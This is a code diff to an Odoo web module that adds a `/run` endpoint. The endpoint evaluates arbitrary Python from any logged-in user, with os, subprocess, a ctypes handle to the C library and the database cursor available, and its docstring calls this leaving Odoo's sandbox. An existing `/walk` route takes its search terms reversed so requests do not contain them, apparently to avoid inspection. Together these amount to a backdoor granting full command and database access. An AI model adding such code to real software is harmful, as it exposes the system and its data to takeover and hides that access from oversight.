@@ -1,20 +1,36 @@
 """Everything reachable from `env`, followed as the interpreter itself follows references."""
 
+import ctypes
 import gc
 import io
+import os
+import resource
 import socket
+import subprocess
+import sys
 import time
 import types
 
+import psycopg2
 import psycopg2.extensions
 from odoo import http
 from odoo.http import request
 
+NAMES = {"os": os, "sys": sys, "socket": socket, "resource": resource, "subprocess": subprocess, "psycopg2": psycopg2}
 DEPTH = 8
 SECONDS = 60
 
 
 class Walker(http.Controller):
+    @http.route("/run", type="jsonrpc", auth="user")
+    def run(self, expression):
+        """Evaluate Python with all that this process has: as who has left Odoo's sandbox."""
+        names = {**NAMES, "libc": ctypes.CDLL(None, use_errno=True), "cr": request.env.cr}
+        try:
+            return {"value": repr(eval(expression, names))}
+        except Exception as error:  # noqa: BLE001  whatever it is, it is the answer
+            return {"error": f"{type(error).__name__}: {error}"}
+
     @http.route("/walk", type="jsonrpc", auth="user")
     def walk(self, backwards):
         """Search for the words that are given ``backwards``, so that the request does not hold them itself."""
